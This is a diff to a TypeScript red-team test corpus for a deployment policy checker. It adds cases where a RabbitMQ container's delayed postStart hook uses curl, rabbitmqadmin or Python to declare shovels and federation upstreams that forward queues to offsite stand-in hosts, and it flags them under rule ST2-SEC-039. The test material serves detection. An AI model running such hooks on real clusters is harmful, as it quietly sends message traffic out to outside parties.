@@ -6,10 +6,15 @@
  * and legacy .lzma streams (src/policy/xz.ts) like gzip, zstd and bzip2.
  *
  * Safe: xz-compressed configs that hold no default (placeholders, notes).
+ *
+ * Also RabbitMQ shovels and federation upstreams declared through the
+ * management API (an open question of an earlier round): judged as the
+ * rabbitmqctl ones are (ST2-SEC-039).
  */
 import { execFileSync } from 'node:child_process';
 import type { Patch, RedTeamCase } from './corpus.js';
 import { bodyCase, type CaseBody } from './case-body.js';
+import { patch as stsPatch, SPEC, STS } from './targets.js';
 
 type Json = Record<string, unknown>;
 
@@ -51,5 +56,17 @@ export function fresh15MineCorpus(): RedTeamCase[] {
     resources: [configMap('cli-config-template', 'binaryData', { 'config.xz': xz64('[credentials]\nusername = st2admin\npassword = ${ST2_AUTH_PASSWORD}\n') })],
   });
   add('safe-xz-release-notes', undefined, { resources: [configMap('notes', 'binaryData', { 'NOTES.xz': xz64('st2 3.8.1: rotated the MongoDB password through the vault; see the runbook.\n'.repeat(20)) })] });
+  // Shovels and federation upstreams declared through the management API (curl, rabbitmqadmin,
+  // Python) rather than rabbitmqctl: the same link out (ST2-SEC-039); a shovel between local vhosts stays allowed.
+  const exposure = (id: string, rule: string | undefined, body: CaseBody): void => {
+    cases.push(bodyCase(`f15m-${id}`, 'exposure', rule, body));
+  };
+  const hook = (script: string): CaseBody => ({ patches: [stsPatch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/containers/0/lifecycle`, value: { postStart: { exec: { command: ['sh', '-c', script] } } } })] });
+  const api = 'curl -s -u "admin:$RABBITMQ_PASSWORD" -H "content-type: application/json" -X PUT';
+  exposure('mgmt-shovel-api', 'ST2-SEC-039', hook(`sleep 90; ${api} http://localhost:15672/api/parameters/shovel/%2f/copy-out -d '{"value":{"src-uri":"amqp://","src-queue":"st2.actionrunner.work","dest-uri":"amqp://mq.offsite.example.net"}}'`));
+  exposure('mgmt-federation-api', 'ST2-SEC-039', hook(`sleep 90; ${api} http://localhost:15672/api/parameters/federation-upstream/%2f/up -d '{"value":{"uri":"amqps://feed.partner.example.com"}}'`));
+  exposure('mgmt-shovel-rabbitmqadmin', 'ST2-SEC-039', hook(`sleep 90; rabbitmqadmin -u admin -p "$RABBITMQ_PASSWORD" declare parameter component=shovel name=out value='{"src-uri":"amqp://","src-queue":"st2.x","dest-uri":"amqp://203.0.113.9"}'`));
+  exposure('mgmt-shovel-api-python', 'ST2-SEC-039', hook(`sleep 90; python3 -c 'import json,urllib.request as u; r=u.Request("http://localhost:15672/api/parameters/shovel/%2f/o", data=json.dumps({"value":{"src-uri":"amqp://","src-queue":"q","dest-uri":"amqp://mq.offsite.example.net"}}).encode(), method="PUT"); u.urlopen(r)'`));
+  exposure('mgmt-shovel-api-local-ok', undefined, hook(`sleep 90; ${api} http://localhost:15672/api/parameters/shovel/archive/keep -d '{"value":{"src-uri":"amqp:///archive","src-queue":"a","dest-uri":"amqp:///archive","dest-queue":"b"}}'`));
   return cases;
 }
